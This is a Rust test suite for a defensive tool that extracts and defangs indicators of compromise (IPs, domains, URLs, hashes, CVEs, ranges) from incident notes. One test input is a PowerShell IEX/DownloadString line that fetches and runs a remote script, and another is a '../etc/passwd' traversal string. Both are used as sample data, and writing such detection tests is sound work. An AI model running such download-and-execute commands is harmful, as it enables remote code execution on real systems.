use super::*;
use crate::config::artifacts::BlockRule;

fn found(text: &str) -> Vec<(Kind, String)> {
    extract_text(text, &ArtifactConfig::default())
        .into_iter()
        .map(|a| (a.kind, a.value.to_string()))
        .collect()
}

fn one(kind: Kind, value: &str) -> Vec<(Kind, String)> {
    vec![(kind, value.to_string())]
}

/// A URL or e-mail address, then its host.
fn with_host(kind: Kind, value: &str, host: &str) -> Vec<(Kind, String)> {
    vec![(kind, value.to_string()), (Kind::Domain, host.to_string())]
}

#[test]
fn each_type_in_text() {
    assert_eq!(
        found("from 185.220.101.4 today"),
        one(Kind::Ipv4, "185.220.101.4")
    );
    assert_eq!(
        found("v6 2A01:4F8:0:0::1 seen"),
        one(Kind::Ipv6, "2a01:4f8::1")
    );
    assert_eq!(
        found("C2 Evil-Domain.COM."),
        one(Kind::Domain, "evil-domain.com")
    );
    assert_eq!(
        found("see https://evil.com/a/b?c=d, then"),
        one(Kind::Url, "https://evil.com/a/b?c=d")
    );
    assert_eq!(
        found("Sender: <Boss@Evil.co.uk>"),
        one(Kind::Email, "boss@evil.co.uk")
    );
    let md5 = "2F7E315925BEE172B7BF34CB9120BD0E";
    assert_eq!(
        found(&format!("MD5 {md5}")),
        one(Kind::Md5, &md5.to_lowercase())
    );
    let sha1 = "d40bfad231a0dcf09ddda94770709a48d11fb26e";
    assert_eq!(found(&format!("sha1={sha1};")), one(Kind::Sha1, sha1));
    let sha256 = "1cd257f2dfb8b35f12ad3fcda017a5e62e873cc8afcc9c8896f3eca24891056c";
    assert_eq!(found(&format!("`{sha256}`")), one(Kind::Sha256, sha256));
    let sha512 = "ab".repeat(64);
    assert_eq!(found(&format!("({sha512})")), one(Kind::Sha512, &sha512));
    assert_eq!(
        found("patch cve-2021-44228!"),
        one(Kind::Cve, "CVE-2021-44228")
    );
}

#[test]
fn each_defanged_form() {
    let cases = [
        ("hxxp://evil.com/x", Kind::Url, "http://evil.com/x"),
        ("hXXps://evil[.]com/x", Kind::Url, "https://evil.com/x"),
        ("http[://]evil.com/x", Kind::Url, "http://evil.com/x"),
        ("http[:]//evil.com/x", Kind::Url, "http://evil.com/x"),
        ("evil[.]com", Kind::Domain, "evil.com"),
        ("evil(.)com", Kind::Domain, "evil.com"),
        ("evil{.}com", Kind::Domain, "evil.com"),
        ("evil[dot]com", Kind::Domain, "evil.com"),
        ("a[@]evil.com", Kind::Email, "a@evil.com"),
        ("a[at]evil[.]com", Kind::Email, "a@evil.com"),
        ("185[.]220[.]101[.]4", Kind::Ipv4, "185.220.101.4"),
        // A bracketed dot or at sign written apart from its neighbours.
        ("evil [.] com", Kind::Domain, "evil.com"),
        ("evil [dot] com", Kind::Domain, "evil.com"),
        ("evil[.] com", Kind::Domain, "evil.com"),
        ("jean [at] evil (dot) com", Kind::Email, "jean@evil.com"),
        ("jean (@) evil [.]com", Kind::Email, "jean@evil.com"),
        ("185 [.] 220 [.] 101 [.] 4", Kind::Ipv4, "185.220.101.4"),
        ("hxxps://evil [.] com/x", Kind::Url, "https://evil.com/x"),
        // A capital after a defanged dot is no sentence break, as it is after a plain one.
        ("evil-update[.]It", Kind::Domain, "evil-update.it"),
        ("cdn[.]evil[dot]Com", Kind::Domain, "cdn.evil.com"),
    ];
    for (text, kind, value) in cases {
        assert_eq!(found(&format!("x {text} y")), one(kind, value), "{text}");
    }
    // The defanged and plain forms are one artifact.
    assert_eq!(
        found("evil[.]com and evil.com"),
        one(Kind::Domain, "evil.com")
    );
}

#[test]
fn not_artifacts() {
    for text in [
        "login.php",
        "open invoice.zip then run.py",
        "version 1.2.3 and v2.0.1.4",
        "10.0.0.1 192.168.1.20 127.0.0.1 172.16.0.9 169.254.3.3",
        "fe80::1 ::1 fd12::5 2001:db8::1",
        "at 12:30:45 on 2024-05-01",
        "std::fmt::Display",
        "deadbeef",
        "e.g. i.e. etc.",
        "CVE-21-1",
        "mail@localhost",
        "http://login.php/x",
        "",
        "[.] [@] hxxp",
        // Spelt out without brackets: prose, not a notation.
        "evil dot com",
        "jean at evil dot com",
        "meet (at) noon in room [.] 4",
        "see the list [.] below",
    ] {
        assert_eq!(found(text), vec![], "{text}");
    }
}

#[test]
fn sentences_run_together_are_no_names() {
    // A missing space after a full stop makes a word and a capitalised one that may
    // be a top-level domain (Laos, Italy, Montenegro, Germany, India, Réunion).
    for text in [
        "Le lien pointait vers le site.La page demandait le mot de passe.",
        "The macro ran and it was done.It then called home.",
        "Contact the user.Me too, said the analyst.",
        "Vu par le poste de travail.De plus, le compte a été verrouillé.",
        "La victime a cliqué sur le lien reçu par courriel.Il a saisi son code.",
    ] {
        assert_eq!(found(text), vec![], "{text}");
    }
    // Names written in one case, or defanged in capitals, still are.
    assert_found(vec![
        ("host evil.it seen", one(Kind::Domain, "evil.it")),
        ("host EVIL.IT seen", one(Kind::Domain, "evil.it")),
        ("host Evil.It seen", one(Kind::Domain, "evil.it")),
        ("host evil.iT seen", one(Kind::Domain, "evil.it")),
        (
            "host site.la.example.com seen",
            one(Kind::Domain, "site.la.example.com"),
        ),
        // In a URL or an address the capital is no sentence's.
        (
            "see https://site.La/login now",
            one(Kind::Url, "https://site.la/login"),
        ),
        ("from ceo@site.La today", one(Kind::Email, "ceo@site.la")),
    ]);
}

#[test]
fn fields_of_pasted_alerts_are_no_names() {
    // `.name`, `.id`, `.email` and `.host` are top-level domains too.
    let alert = "host.name: WS-0042, user.name: jdupont, user.id: S-1-5-21-1004, \
                 user.email: j.dupont@example-bank.fr, process.parent.name: winword.exe, \
                 dns.question.name: evil.com, Host.Name and this.name, window.location.host";
    assert_eq!(
        found(alert),
        vec![
            (Kind::Email, "j.dupont@example-bank.fr".to_string()),
            (Kind::Domain, "evil.com".to_string()),
        ]
    );
    // Other names under those domains, and those roots under others, still are.
    assert_found(vec![
        ("from john.name today", one(Kind::Domain, "john.name")),
        ("via bank.co.id today", one(Kind::Domain, "bank.co.id")),
        ("upload to file.io today", one(Kind::Domain, "file.io")),
        (
            "see http://user.name/x",
            one(Kind::Url, "http://user.name/x"),
        ),
    ]);
    let config = ArtifactConfig::default();
    assert_eq!(
        parse_value("domain", "host.name", &config).map(|a| a.value.to_string()),
        Ok("host.name".to_string())
    );
}

/// Each text, with what [`found`] must give for it.
fn assert_found(cases: Vec<(&str, Vec<(Kind, String)>)>) {
    for (text, expected) in cases {
        assert_eq!(found(text), expected, "{text}");
    }
}

#[test]
fn a_url_on_a_bracketed_ipv6_address() {
    assert_found(vec![
        (
            "beacon to https://[2A01:4F8:0:0::1]:8443/gate?id=4, twice",
            one(Kind::Url, "https://[2a01:4f8::1]:8443/gate?id=4"),
        ),
        (
            "hxxp[:]//user@[2a01:4f8::1]/x",
            one(Kind::Url, "http://user@[2a01:4f8::1]/x"),
        ),
        // Brackets elsewhere still end a chunk: a Markdown link, a note in brackets.
        (
            "[https://evil.com/a](https://evil.com/a) [2a01:4f8::1]",
            vec![
                (Kind::Url, "https://evil.com/a".to_string()),
                (Kind::Ipv6, "2a01:4f8::1".to_string()),
            ],
        ),
        // An internal address in brackets is no indicator, as a bare one is not.
        ("http://[fe80::1]/admin", vec![]),
    ]);
}

#[test]
fn names_and_addresses_in_other_scripts() {
    assert_found(vec![
        (
            "Lien hxxps://bücher[.]de/Konto?id=1 reçu.",
            one(Kind::Url, "https://xn--bcher-kva.de/Konto?id=1"),
        ),
        // A look-alike (Cyrillic `а`) and its ASCII form are one artifact.
        (
            "Domaine \u{430}pple.com et xn--pple-43d.com.",
            one(Kind::Domain, "xn--pple-43d.com"),
        ),
        (
            "Expéditeur : Hameçonnage@Banque-Test.fr ; copie à info@пример.рф",
            vec![
                (Kind::Email, "hameçonnage@banque-test.fr".to_string()),
                (Kind::Email, "info@xn--e1afmkfd.xn--p1ai".to_string()),
            ],
        ),
        // French prose: accented words with dashes, dots and colons are no names.
        (
            "Le réseau-interne a été ré-initialisé. Sécurité : à vérifier… l'équipe.",
            vec![],
        ),
    ]);
    assert_eq!(
        identify("bücher[.]de").map(|a| a.value.to_string()),
        Some("xn--bcher-kva.de".to_string())
    );
}

#[test]
fn punycode_values_are_shown_as_written_too() {
    let written = |text: &str| defang_as_written(&identify(text).unwrap());
    assert_eq!(written("xn--bcher-kva.de").as_deref(), Some("bücher[.]de"));
    assert_eq!(
        written("Info@Bücher.de").as_deref(),
        Some("info[@]bücher[.]de")
    );
    assert_eq!(
        written("https://u@www.bücher.de:8080/xn--bcher-kva.de").as_deref(),
        Some("hxxps[://]u@www[.]bücher[.]de:8080/xn--bcher-kva.de")
    );
    for plain in ["evil.com", "https://evil.com/xn--a", "185.220.101.4"] {
        assert_eq!(written(plain), None, "{plain}");
    }
}

#[test]
fn private_addresses_when_configured() {
    let config = ArtifactConfig {
        private_ips: true,
        ..ArtifactConfig::default()
    };
    let got = extract_text("10.0.0.1 and http://192.168.1.1/admin", &config);
    assert_eq!(got.len(), 2);
    assert_eq!(&*got[0].value, "10.0.0.1");
    assert_eq!(&*got[1].value, "http://192.168.1.1/admin");
}

#[test]
fn blocklist_by_value_and_domain_suffix() {
    let config = ArtifactConfig {
        blocklist: vec![
            BlockRule {
                kind: "domain".into(),
                value: "corp.example.com".into(),
            },
            BlockRule {
                kind: "ip".into(),
                value: "8.8.8.8".into(),
            },
        ],
        ..ArtifactConfig::default()
    };
    let got = extract_text(
        "corp.example.com vpn.corp.example.com notcorp.example.com \
         https://intranet.corp.example.com/x it@corp.example.com 8.8.8.8 8.8.4.4",
        &config,
    );
    let values: Vec<&str> = got.iter().map(|a| &*a.value).collect();
    assert_eq!(values, vec!["notcorp.example.com", "8.8.4.4"]);
    assert!(config.check().is_ok());
    let bad = ArtifactConfig {
        blocklist: vec![BlockRule {
            kind: "domain".into(),
            value: "login.php".into(),
        }],
        ..ArtifactConfig::default()
    };
    assert!(bad.check().unwrap_err().contains("blocklist[0]"));
    let bad = ArtifactConfig {
        references: vec!["virustotal.com".into(), "not a domain".into()],
        ..ArtifactConfig::default()
    };
    assert!(bad.check().unwrap_err().contains("references[1]"));
    // The entries are parsed once per configuration; a copy whose list changes reads
    // its own.
    let vpn = Artifact {
        kind: Kind::Domain,
        value: "vpn.corp.example.com".into(),
    };
    assert!(blocked(&vpn, &config));
    let mut unblocked = config.clone();
    unblocked.blocklist.clear();
    assert!(!blocked(&vpn, &unblocked));
    assert_eq!(config, config.clone());
}

#[test]
fn trailing_punctuation_and_markup() {
    assert_eq!(
        found("(see **http://evil.com/a**), [link](https://evil.com/b)."),
        vec![
            (Kind::Url, "http://evil.com/a".to_string()),
            (Kind::Url, "https://evil.com/b".to_string()),
        ]
    );
    assert_eq!(found("IP:185.220.101.4."), one(Kind::Ipv4, "185.220.101.4"));
    assert_eq!(found("185.220.101.4:443"), one(Kind::Ipv4, "185.220.101.4"));
    assert_eq!(
        found("a.com,b.org;c.net"),
        vec![
            (Kind::Domain, "a.com".to_string()),
            (Kind::Domain, "b.org".to_string()),
            (Kind::Domain, "c.net".to_string()),
        ]
    );
}

#[test]
fn explicit_values_are_checked_and_normalised() {
    let config = ArtifactConfig::default();
    let ok = |kind: &str, value: &str| parse_value(kind, value, &config).unwrap();
    assert_eq!(&*ok("domain", "Evil[.]com").value, "evil.com");
    assert_eq!(ok("ip", "2001:DB8::1").kind, Kind::Ipv6);
    assert_eq!(&*ok("ipv4", "10.0.0.1").value, "10.0.0.1");
    assert_eq!(ok("hash", &"A".repeat(64)).kind, Kind::Sha256);
    assert_eq!(
        ok("URL", "hxxps://evil[.]com/x").value,
        "https://evil.com/x".into()
    );
    assert_eq!(&*ok("cve", "cve-2023-44487").value, "CVE-2023-44487");
    assert!(matches!(
        parse_value("registry", "HKLM", &config),
        Err(InvalidArtifact::UnknownType(_))
    ));
    for (kind, value) in [
        ("domain", "login.php"),
        ("ipv4", "2001:db8::1"),
        ("md5", "abc"),
        ("email", "nobody"),
        ("url", "evil.com"),
    ] {
        assert!(
            matches!(
                parse_value(kind, value, &config),
                Err(InvalidArtifact::InvalidValue { .. })
            ),
            "{kind} {value}"
        );
    }
}

#[test]
fn extract_from_an_incident() {
    let mut incident = Incident::new(
        "FIR-2024-0002",
        "Phishing from evil[.]com",
        "2024-01-01".parse().unwrap(),
    );
    incident.description = "Like FIR-2024-0001, from 185.220.101.4. See FIR-2024-0002.".into();
    incident.artifacts.push(crate::incident::Artifact {
        kind: "ipv4".into(),
        value: "10.1.1.1".into(),
    });
    incident.artifacts.push(crate::incident::Artifact {
        kind: "domain".into(),
        value: "login.php".into(),
    });
    let found = scan_incident(&incident, &ArtifactConfig::default());
    let values: Vec<&str> = found.artifacts.iter().map(|a| &*a.value).collect();
    // Sorted by type then value; the explicit private address is kept.
    assert_eq!(values, vec!["10.1.1.1", "185.220.101.4", "evil.com"]);
    assert_eq!(found.mentions, vec!["FIR-2024-0001"]);
    let disabled = ArtifactConfig {
        enabled: false,
        ..ArtifactConfig::default()
    };
    assert_eq!(extract(&incident, &disabled).len(), 1);
}

#[test]
fn queries() {
    assert_eq!(refang_query(" hxxp://evil[.]com "), "http://evil.com");
    assert_eq!(
        identify("Evil[.]COM"),
        Some(Artifact {
            kind: Kind::Domain,
            value: "evil.com".into()
        })
    );
    assert_eq!(identify("10.0.0.1").unwrap().kind, Kind::Ipv4);
    assert_eq!(identify("hxxps://evil[.]com/x").unwrap().kind, Kind::Url);
    assert_eq!(identify("phishing"), None);
    assert_eq!(identify("evil.com and more"), None);
}

#[test]
fn defanged_display_refangs_back() {
    let config = ArtifactConfig {
        private_ips: true,
        ..ArtifactConfig::default()
    };
    for text in [
        "evil.com",
        "185.220.101.4",
        "2a01:4f8::1",
        "https://a.evil.com:8443/p.php?x=1.2",
        "a.b@evil.co.uk",
        "CVE-2024-1234",
    ] {
        let artifact = identify(text).unwrap();
        let shown = defang(&artifact);
        assert!(
            !shown.contains("http") && !shown.contains(".com"),
            "{shown}"
        );
        assert_eq!(identify(&shown).as_ref(), Some(&artifact), "{shown}");
        assert_eq!(extract_text(&shown, &config), vec![artifact]);
    }
    assert_eq!(
        defang(&identify("https://evil.com/a.b").unwrap()),
        "hxxps[://]evil[.]com/a.b"
    );
}

#[test]
fn identify_keeps_the_colons_that_end_an_ipv6_address() {
    // Found by fuzzing: `1::0` is extracted as `1::`, which must identify as itself.
    for value in ["1::", "2001:db8::", "::1"] {
        assert_eq!(
            identify(value),
            Some(Artifact {
                kind: Kind::Ipv6,
                value: value.into()
            })
        );
    }
}

#[test]
fn file_names_are_explicit_artifacts_only() {
    let config = ArtifactConfig::default();
    let named = parse_value("file", "  Invoice 2024.PDF.exe ", &config).unwrap();
    assert_eq!(named.kind, Kind::File);
    assert_eq!(&*named.value, "Invoice 2024.PDF.exe");
    assert_eq!(defang(&named), "Invoice 2024.PDF.exe");
    for bad in ["", "  ", "../etc/passwd", "a\\b.txt", "line\nbreak.txt"] {
        assert!(parse_value("file", bad, &config).is_err(), "{bad:?}");
    }
    // Texts never yield file names: `login.php` is not an artifact.
    assert!(extract_text("see login.php and invoice.zip", &config).is_empty());
}

/// Texts of words glued by every character the scanner treats apart.
fn scanner_text() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    let piece = prop_oneof![
        "[a-zA-Z]{1,8}",
        "[0-9a-fA-F]{30,66}",
        "[0-9a-f]{32}|[0-9a-f]{40}",
        " [0-9a-f]{32} ",
        "[0-9]{1,3}",
        "[-.:@/,;!?'\"*_=&+%~#()\\[\\] \n\t]{1,3}",
        Just("CVE-2024-1234".to_string()),
        Just("FIR-2024-0001".to_string()),
        Just("http://".to_string()),
        Just(".com".to_string()),
        Just("é漢".to_string()),
        any::<char>().prop_map(String::from),
    ];
    proptest::collection::vec(piece, 0..40).prop_map(|parts| parts.concat())
}

proptest::proptest! {
    /// Passing over chunks without `.`, `:`, `@`, `-` or a run of 32 hex digits loses
    /// nothing: the scan finds what looking at every chunk finds.
    #[test]
    fn the_quick_test_skips_only_chunks_without_indicators(text in scanner_text()) {
        let config = ArtifactConfig::default();
        let (mut quick, mut every) = (Found::default(), Found::default());
        scan::scan(&text, &config, &mut quick, &mut 0);
        scan::scan_every_chunk(&text, &config, &mut every);
        proptest::prop_assert_eq!(quick, every);
    }

    /// Jumping from mark to mark and sampling one byte in 32 (measured further only in
    /// a long run of hex digits) finds exactly the chunks that reading every byte and
    /// keeping those the quick test passes finds.
    #[test]
    fn jumping_finds_every_chunk_the_quick_test_keeps(text in scanner_text()) {
        let (jumped, every) = scan::candidate_chunks(&text);
        proptest::prop_assert_eq!(jumped, every);
    }
}

#[test]
fn hosts_of_urls_and_addresses_are_artifacts_too() {
    let config = ArtifactConfig::default();
    // What a text mentions, then the hosts an incident's list adds.
    let pairs = |text: &str| -> Vec<(Kind, String)> {
        let mut artifacts = extract_text(text, &config);
        add_hosts(&mut artifacts, &config);
        artifacts
            .into_iter()
            .map(|a| (a.kind, a.value.to_string()))
            .collect()
    };
    // IP hosts keep their type; an IPv6 host is written in its canonical form.
    assert_eq!(
        pairs("hxxp://185[.]220[.]101[.]4:8080/gate.php"),
        vec![
            (Kind::Url, "http://185.220.101.4:8080/gate.php".to_string()),
            (Kind::Ipv4, "185.220.101.4".to_string()),
        ]
    );
    let v6 = identify("https://[2A01:4F8:0:0::1]/x").unwrap();
    assert_eq!(&*v6.value, "https://[2a01:4f8::1]/x");
    assert_eq!(
        host_of(&v6, &config),
        Some(Artifact {
            kind: Kind::Ipv6,
            value: "2a01:4f8::1".into()
        })
    );
    // Credentials and ports are not part of the host.
    assert_eq!(
        pairs("ftp://user:pw@Files.Evil.net:2121/drop"),
        with_host(
            Kind::Url,
            "ftp://user:pw@files.evil.net:2121/drop",
            "files.evil.net"
        )
    );
    assert_eq!(
        pairs("Sender: <Boss@Evil.co.uk>"),
        with_host(Kind::Email, "boss@evil.co.uk", "evil.co.uk")
    );
    // Texts alone list what they mention: no host.
    assert_eq!(
        extract_text("see https://evil.com/a", &config).len(),
        1,
        "the URL only"
    );
    // An explicit URL on an internal address is kept; its host is not, unless
    // private addresses are.
    let internal = parse_value("url", "http://10.1.2.3/admin", &config).unwrap();
    assert_eq!(host_of(&internal, &config), None);
    let private = ArtifactConfig {
        private_ips: true,
        ..ArtifactConfig::default()
    };
    assert_eq!(
        host_of(&internal, &private),
        Some(Artifact {
            kind: Kind::Ipv4,
            value: "10.1.2.3".into()
        })
    );
    for other in ["evil.com", "185.220.101.4", "CVE-2024-1234"] {
        assert_eq!(host_of(&identify(other).unwrap(), &config), None, "{other}");
    }
}

#[test]
fn an_incident_lists_the_hosts_of_its_explicit_and_found_artifacts() {
    let mut incident = Incident::new("FIR-2024-0001", "CEO fraud", "2024-01-01".parse().unwrap());
    incident.description = "Mail from boss@ceo-fraud.biz.".into();
    incident.artifacts.push(crate::incident::Artifact {
        kind: "url".into(),
        value: "hxxps://drop[.]evil.org/p".into(),
    });
    let listed = |config: &ArtifactConfig| -> Vec<String> {
        extract(&incident, config)
            .iter()
            .map(|a| format!("{}:{}", a.kind, a.value))
            .collect()
    };
    assert_eq!(
        listed(&ArtifactConfig::default()),
        [
            "domain:ceo-fraud.biz",
            "domain:drop.evil.org",
            "url:https://drop.evil.org/p",
            "email:boss@ceo-fraud.biz"
        ]
    );
    // A blocklisted domain takes its addresses with it, and their hosts.
    let config = ArtifactConfig {
        blocklist: vec![BlockRule {
            kind: "domain".into(),
            value: "ceo-fraud.biz".into(),
        }],
        ..ArtifactConfig::default()
    };
    assert_eq!(
        listed(&config),
        ["domain:drop.evil.org", "url:https://drop.evil.org/p"]
    );
}

#[test]
fn an_ipv4_mapped_address_is_its_ipv4_address() {
    let ipv4 = || Some((Kind::Ipv4, "185.199.1.7".to_string()));
    // Typed or written in any form, as dual-stack servers log an IPv4 client.
    for value in [
        "::ffff:185.199.1.7",
        "::FFFF:B9C7:107",
        "0:0:0:0:0:ffff:b9c7:0107",
        "::ffff:185[.]199[.]1[.]7",
    ] {
        let artifact = identify(value).map(|a| (a.kind, a.value.to_string()));
        assert_eq!(artifact, ipv4(), "{value}");
    }
    let config = ArtifactConfig::default();
    for kind in ["ip", "ipv6", "ipv4"] {
        let explicit = parse_value(kind, "::ffff:185.199.1.7", &config)
            .ok()
            .map(|a| (a.kind, a.value.to_string()));
        assert_eq!(explicit, ipv4(), "{kind}");
    }
    assert_found(vec![
        (
            "relayed by 0:0:0:0:0:ffff:b9c7:107.",
            one(Kind::Ipv4, "185.199.1.7"),
        ),
        (
            "relayed by ::ffff:185.199.1.7.",
            one(Kind::Ipv4, "185.199.1.7"),
        ),
        (
            "internal ::ffff:10.1.2.3 and 0:0:0:0:0:ffff:a01:203",
            vec![],
        ),
    ]);
    // A URL keeps the address as written in its host, listed as the IPv4 address.
    let url = identify("https://[::ffff:185.199.1.7]:8443/gate").unwrap();
    assert_eq!(&*url.value, "https://[::ffff:185.199.1.7]:8443/gate");
    let host = host_of(&url, &config).map(|a| (a.kind, a.value.to_string()));
    assert_eq!(host, ipv4());
}
#[test]
fn code_and_logs_pasted_into_notes() {
    assert_found(vec![
        // A Chromium user agent's version, since user agents were cut short.
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
            vec![],
        ),
        // Methods called in scripts: a name followed by `(`.
        (
            "requests.post(url, data=payload); window.open(u); self.download(x)",
            vec![],
        ),
        (
            "then evil.com (registered yesterday)",
            one(Kind::Domain, "evil.com"),
        ),
        // Files: OneNote attachments, Java settings and actions.
        ("Invoice.one, log4j.properties and login.do", vec![]),
        (
            "IEX (New-Object Net.WebClient).DownloadString('hxxp://185.220.101[.]4/a.ps1')",
            one(Kind::Url, "http://185.220.101.4/a.ps1"),
        ),
        // Networks and addresses around them still are.
        (
            "from 185.0.0.1 and 185.220.0.0",
            vec![
                (Kind::Ipv4, "185.0.0.1".to_string()),
                (Kind::Ipv4, "185.220.0.0".to_string()),
            ],
        ),
    ]);
}
#[test]
fn hashes_in_the_links_of_analysis_services() {
    let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let md5 = "5d41402abc4b2a76b9719d911017c592";
    let report = format!("https://www.virustotal.com/gui/file/{sha256}/detection");
    let sandbox = format!(
        "https://sandbox.example.com/report?md5={}&tab=2",
        md5.to_uppercase()
    );
    let not_hashes = format!("https://evil.com/s/{md5}a/x{md5}/{}", &md5[..31]);
    // The services are references (fir.toml's default `references`): their links and
    // names are no indicators, what the links name is.
    assert_found(vec![
        (&*format!("See {report}."), one(Kind::Sha256, sha256)),
        (
            &*format!("hxxps://bazaar.abuse[.]ch/sample/{sha256}/ and {sha256}"),
            one(Kind::Sha256, sha256),
        ),
        ("checked on www.virustotal.com and urlscan.io", vec![]),
        (
            "but evilvirustotal.com and virustotal.com.evil.io are",
            vec![
                (Kind::Domain, "evilvirustotal.com".to_string()),
                (Kind::Domain, "virustotal.com.evil.io".to_string()),
            ],
        ),
        (
            &sandbox,
            vec![(Kind::Url, sandbox.clone()), (Kind::Md5, md5.to_string())],
        ),
        // Hex of no hash's length, or run into other letters, is no hash.
        (&not_hashes, one(Kind::Url, &not_hashes)),
    ]);
    // A site that lists no references keeps the links.
    let config = ArtifactConfig {
        references: Vec::new(),
        ..ArtifactConfig::default()
    };
    let kinds: Vec<_> = extract_text(&report, &config)
        .into_iter()
        .map(|a| a.kind)
        .collect();
    assert_eq!(kinds, [Kind::Url, Kind::Sha256]);
}

#[test]
fn a_normal_urls_authority_in_parts() {
    for (url, parts, host) in [
        ("https://evil.com/x", ("", "evil.com", ""), Some("evil.com")),
        (
            "https://u:p@evil.com:8443/x",
            ("u:p@", "evil.com", ":8443"),
            Some("evil.com"),
        ),
        (
            "http://a@[2a01:4f8::1]:80?q",
            ("a@", "[2a01:4f8::1]", ":80"),
            None,
        ),
        (
            "ftp://185.1.2.3#f",
            ("", "185.1.2.3", ""),
            Some("185.1.2.3"),
        ),
    ] {
        let (_, authority, _) = values::url_parts(url).unwrap();
        assert_eq!(values::authority_parts(authority), parts, "{url}");
        assert_eq!(values::url_host(url), host, "{url}");
    }
}

#[test]
fn networks_in_text() {
    // The range, not its network address as a host.
    assert_eq!(
        found("any address in 194.26.29.0/24; block it"),
        one(Kind::Network, "194.26.29.0/24")
    );
    // A host written with its range: both.
    assert_eq!(
        found("the VPS 194.26.29.77/24."),
        vec![
            (Kind::Network, "194.26.29.0/24".to_string()),
            (Kind::Ipv4, "194.26.29.77".to_string())
        ]
    );
    assert_eq!(
        found("hoster range 2A01:4F8:C0C::/48, then"),
        one(Kind::Network, "2a01:4f8:c0c::/48")
    );
    assert_eq!(
        found("ranges 45.0.0.0/8 and 185.1.0.0/16"),
        vec![
            (Kind::Network, "45.0.0.0/8".to_string()),
            (Kind::Network, "185.1.0.0/16".to_string())
        ]
    );
    // Defanged, as reports write them.
    assert_eq!(
        found("block 194[.]26[.]29[.]0/24"),
        one(Kind::Network, "194.26.29.0/24")
    );
    // A one-address prefix is that address; an IPv4-mapped range is its IPv4 range.
    assert_eq!(found("185.1.2.3/32"), one(Kind::Ipv4, "185.1.2.3"));
    assert_eq!(
        found("::ffff:185.1.2.0/120"),
        one(Kind::Network, "185.1.2.0/24")
    );
}

#[test]
fn what_is_no_network() {
    // Private and reserved ranges, as addresses are.
    assert!(found("LAN 10.0.0.0/8 and 192.168.1.0/24, fd00::/8").is_empty());
    // Wider than a /8 (or a /16 in IPv6): "any" in a firewall rule.
    assert!(found("allow 0.0.0.0/0 and ::/0").is_empty());
    assert_eq!(found("route 185.1.2.0/4"), one(Kind::Ipv4, "185.1.2.0"));
    // Prefixes too long, or followed by more of a path or word: the address alone.
    assert_eq!(found("185.1.2.0/33"), one(Kind::Ipv4, "185.1.2.0"));
    assert_eq!(found("185.1.2.0/24/x"), one(Kind::Ipv4, "185.1.2.0"));
    assert_eq!(found("185.1.2.0/24abc"), one(Kind::Ipv4, "185.1.2.0"));
    // A URL's path is the URL's.
    assert_eq!(
        found("http://evil.com/185.1.2.0/24"),
        one(Kind::Url, "http://evil.com/185.1.2.0/24")
    );
    // Versions and dates are no addresses.
    assert!(found("build 1.2.3/24 on 12.10.2024/25").is_empty());
}

#[test]
fn networks_given_and_searched() {
    let config = ArtifactConfig::default();
    let given = |kind: &str, value: &str| {
        parse_value(kind, value, &config).map(|a| (a.kind, a.value.to_string()))
    };
    assert_eq!(
        given("network", "194.26.29.12/24"),
        Ok((Kind::Network, "194.26.29.0/24".to_string()))
    );
    assert_eq!(
        given("cidr", "2001:DB8:0:0::/32"),
        Ok((Kind::Network, "2001:db8::/32".to_string()))
    );
    assert!(given("network", "194.26.29.12").is_err());
    assert!(given("ipv4", "194.26.29.0/24").is_err());
    let typed = identify("194[.]26[.]29[.]0/24").expect("a network");
    assert_eq!(
        (typed.kind, typed.value.as_str()),
        (Kind::Network, "194.26.29.0/24")
    );
    assert_eq!(
        defang(&typed),
        "194[.]26[.]29[.]0/24",
        "shown unclickable as addresses are"
    );
}

#[test]
fn addresses_that_start_or_end_with_two_colons_keep_them() {
    // An IPv4-mapped address as the URL parser writes it, in hex: its IPv4 address.
    assert_eq!(
        found("client ::ffff:b9c7:107, again"),
        one(Kind::Ipv4, "185.199.1.7")
    );
    assert_eq!(
        found("announced 2A01:4F8:C0C:: today."),
        one(Kind::Ipv6, "2a01:4f8:c0c::")
    );
    // A range of them too, typed as a query.
    for range in ["::ffff:185.12.3.0/120", "::ffff:b90c:300/120"] {
        let artifact = identify(range).expect(range);
        assert_eq!(
            (artifact.kind, &*artifact.value),
            (Kind::Network, "185.12.3.0/24"),
            "{range}"
        );
    }
    // Colons that make no address are still punctuation.
    assert_eq!(found("IP: 185.1.2.3:"), one(Kind::Ipv4, "185.1.2.3"));
    assert_eq!(found("::evil.com::"), one(Kind::Domain, "evil.com"));
}

#[test]
fn a_defanged_ftp_link_is_an_ftp_url() {
    assert_eq!(
        found("dropped from fxp://files.evil[.]com/pub/x.bin"),
        one(Kind::Url, "ftp://files.evil.com/pub/x.bin")
    );
}

proptest::proptest! {
    /// A range written from any of its addresses is one artifact, its normal form
    /// read back as itself, and it holds the address it was written from.
    #[test]
    fn a_range_is_the_same_from_any_address_in_it(bits in proptest::prelude::any::<u32>(), prefix in 8u8..32) {
        let ip = std::net::Ipv4Addr::from(bits);
        let Some((kind, value, _)) = values::network(&format!("{ip}/{prefix}")) else {
            return Err(proptest::test_runner::TestCaseError::fail("a valid range"));
        };
        proptest::prop_assert_eq!(kind, Kind::Network);
        let again = values::network(&value).map(|(_, v, _)| v);
        proptest::prop_assert_eq!(again.as_deref(), Some(value.as_str()));
        let (first, last) = values::network_bounds(ip.into(), prefix).expect("bounds");
        proptest::prop_assert!(first <= std::net::IpAddr::from(ip) && std::net::IpAddr::from(ip) <= last);
        proptest::prop_assert_eq!(value, format!("{first}/{prefix}"));
    }

    /// Anything shaped like an address and a prefix is read without panicking.
    #[test]
    fn range_reading_never_panics(text in "[0-9a-fA-F:.%/]{0,48}") {
        let _ = values::network(&text);
        let _ = extract_text(&text, &ArtifactConfig::default());
    }
}
